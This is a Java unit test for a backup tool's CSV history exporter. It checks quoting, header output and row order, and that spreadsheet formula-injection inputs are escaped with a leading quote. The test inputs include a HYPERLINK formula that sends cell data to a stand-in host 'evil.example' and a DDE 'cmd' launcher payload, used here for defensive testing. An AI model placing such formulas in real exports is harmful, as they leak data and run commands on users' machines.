package io.backupkit.core.internal;

import static org.assertj.core.api.Assertions.assertThat;

import io.backupkit.api.BackupId;
import io.backupkit.api.BackupStatus;
import io.backupkit.api.Operation;
import io.backupkit.api.OperationRecord;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HistoryCsvTest {
    private static final Instant STARTED = Instant.parse("2026-03-01T02:00:00Z");

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1", "-2+3", "@SUM(A1:A9)",
        "\tcmd|' /C calc'!A0", "\r=1+1"})
    void aFieldASpreadsheetWouldRunAsAFormulaGetsALeadingQuote(String typed) throws IOException {
        OperationRecord r = record("rec-1", typed, typed, Map.of("notes", typed), Optional.of(typed));

        CSVRecord row = parse(write(List.of(r))).get(0);

        for (String column : List.of("actor", "target", "error")) {
            assertThat(row.get(column)).as(column).isEqualTo("'" + typed);
        }
        assertThat(row.get("options")).isEqualTo("notes=" + typed);   // not at the start of the cell: harmless
    }

    @Test
    void ordinaryFieldsAreWrittenAsTheyAreEvenWithCommasQuotesAndLineBreaks() throws IOException {
        String awkward = "Doe, \"JD\"\r\nJohn 'the admin'";
        OperationRecord r = record("rec-1", awkward, " leading and trailing ", Map.of("type", "FULL", "label", "a,b"),
                Optional.empty());

        String csv = write(List.of(r));
        CSVRecord row = parse(csv).get(0);

        assertThat(row.get("id")).isEqualTo("rec-1");
        assertThat(row.get("operation")).isEqualTo("BACKUP");
        assertThat(row.get("status")).isEqualTo("COMPLETED");
        assertThat(row.get("backup_id")).isEqualTo("20260301T020000Z-full-7f3a");
        assertThat(row.get("actor")).isEqualTo(awkward);
        assertThat(row.get("started_at")).isEqualTo("2026-03-01T02:00:00Z");
        assertThat(row.get("finished_at")).isEqualTo("2026-03-01T02:00:01.500Z");
        assertThat(row.get("duration_ms")).isEqualTo("1500");
        assertThat(row.get("target")).isEqualTo(" leading and trailing ");
        assertThat(row.get("options")).isEqualTo("label=a,b; type=FULL");
        assertThat(row.get("error")).isEmpty();
        assertThat(row.get("safety_backup")).isEmpty();
        assertThat(row.get("host")).isEqualTo("db-1");
        assertThat(csv).startsWith("id,operation,status,backup_id,actor,started_at,finished_at,duration_ms,target,"
                + "options,error,safety_backup,host\r\n");
    }

    @Test
    void noRecordsIsTheHeaderLineAlone() throws IOException {
        String csv = write(List.of());

        assertThat(csv).isEqualTo("id,operation,status,backup_id,actor,started_at,finished_at,duration_ms,target,"
                + "options,error,safety_backup,host\r\n");
        assertThat(parse(csv)).isEmpty();
    }

    @Test
    void everyRecordIsOneRowInOrder() throws IOException {
        List<OperationRecord> records = List.of(record("a", "x", "", Map.of(), Optional.empty()),
                record("b", "y\nz", "", Map.of(), Optional.of("failed: \"quoted\"")),
                record("c", "-", "", Map.of(), Optional.empty()));

        List<CSVRecord> rows = parse(write(records));

        assertThat(rows).extracting(row -> row.get("id")).containsExactly("a", "b", "c");
        assertThat(rows).extracting(row -> row.get("actor")).containsExactly("x", "y\nz", "'-");
        assertThat(rows.get(1).get("error")).isEqualTo("failed: \"quoted\"");
    }

    private static OperationRecord record(String id, String actor, String target, Map<String, String> options,
                                          Optional<String> error) {
        return new OperationRecord(id, Operation.BACKUP, BackupStatus.COMPLETED,
                Optional.of(BackupId.of("20260301T020000Z-full-7f3a")), actor, STARTED,
                Optional.of(STARTED.plusMillis(1500)), target, options, error, Optional.empty(), "db-1");
    }

    private static String write(List<OperationRecord> records) throws IOException {
        StringWriter out = new StringWriter();
        HistoryCsv.write(records, out);
        return out.toString();
    }

    private static List<CSVRecord> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))
                .getRecords();
    }
}
